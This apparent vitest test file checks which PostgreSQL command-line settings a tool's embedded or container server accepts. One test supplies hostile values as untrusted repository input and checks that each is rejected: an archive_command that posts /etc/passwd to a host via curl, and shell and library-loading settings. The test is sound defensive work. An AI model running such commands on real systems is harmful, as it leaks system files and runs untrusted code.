/**
 * Which settings of a postgres service's command line a server this tool starts takes
 * (src/runtime/command-settings.ts): the embedded server and the compose runtime's scratch
 * container. Real files stand in for the embedded binaries' library folder.
 */
import { mkdir, mkdtemp, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { commandSettings } from "../../src/runtime/command-settings.js";
import type { PostgresBinaries } from "../../src/runtime/embedded/postgres-binaries.js";

describe("the command line's settings a server takes", () => {
  let root: string;
  let binaries: PostgresBinaries;

  beforeAll(async () => {
    root = await mkdtemp(join(tmpdir(), "civic-command-settings-"));
    await mkdir(join(root, "lib", "postgresql"), { recursive: true });
    await writeFile(join(root, "lib", "postgresql", "pg_stat_statements.so"), "");
    binaries = { nativeDir: root, initdb: "", pgCtl: "", postgres: "" } as unknown as PostgresBinaries;
  });

  afterAll(async () => {
    await rm(root, { recursive: true, force: true });
  });

  const names = (settings: readonly { name: string }[]) => settings.map((setting) => setting.name);
  const of = (...pairs: [string, string][]) => pairs.map(([name, value]) => ({ name, value }));

  it("takes ordinary settings, in order", () => {
    const { applied, skipped } = commandSettings(of(["max_connections", "200"], ["password_encryption", "md5"], ["search_path", "app, public"]), binaries);
    expect(applied).toEqual(of(["max_connections", "200"], ["password_encryption", "md5"], ["search_path", "app, public"]));
    expect(skipped).toEqual([]);
  });

  it("leaves out where it listens, the container's files, TLS and what the runtime sets its own way, each with its reason", () => {
    const { applied, skipped } = commandSettings(
      of(["port", "5433"], ["listen_addresses", "*"], ["config_file", "/etc/postgresql/postgresql.conf"], ["hba_file", "/etc/pg_hba.conf"], ["ssl", "on"], ["ssl_cert_file", "/certs/x"], ["fsync", "on"], ["logging_collector", "on"]),
      binaries,
    );
    expect(applied).toEqual([]);
    expect(skipped.map(({ setting, reason }) => [setting.name, reason.split(" ").slice(0, 3).join(" ")])).toEqual([
      ["port", "where the server"],
      ["listen_addresses", "where the server"],
      ["config_file", "it names a"],
      ["hba_file", "it names a"],
      ["ssl", "TLS needs the"],
      ["ssl_cert_file", "TLS needs the"],
      ["fsync", "the runtime sets"],
      ["logging_collector", "the runtime sets"],
    ]);
  });

  it("never passes a setting that runs a program or loads code from a path: the repository's settings are untrusted", () => {
    const settings = of(
      ["archive_mode", "on"],
      ["archive_command", "curl -d @/etc/passwd http://x"],
      ["archive_library", "evil"],
      ["restore_command", "sh -c x"],
      ["archive_cleanup_command", "x"],
      ["recovery_end_command", "x"],
      ["dynamic_library_path", "/work/repo/lib"],
    );
    for (const server of [binaries, undefined]) {
      const { applied, skipped } = commandSettings(settings, server);
      expect(names(applied)).toEqual(["archive_mode"]);
      expect(skipped.every(({ reason }) => /runs a program or loads code/.test(reason))).toBe(true);
    }
  });

  it("takes a preload library the embedded binaries have, not one they lack; a container of the image takes both", () => {
    const settings = of(["shared_preload_libraries", "pg_stat_statements"], ["session_preload_libraries", "pg_stat_statements, pg_cron"]);
    const embedded = commandSettings(settings, binaries);
    expect(names(embedded.applied)).toEqual(["shared_preload_libraries"]);
    expect(embedded.skipped.map(({ reason }) => reason)).toEqual(["the embedded PostgreSQL has no pg_cron library (the image's extensions are not here)"]);
    expect(names(commandSettings(settings).applied)).toEqual(["shared_preload_libraries", "session_preload_libraries"]);
  });
});
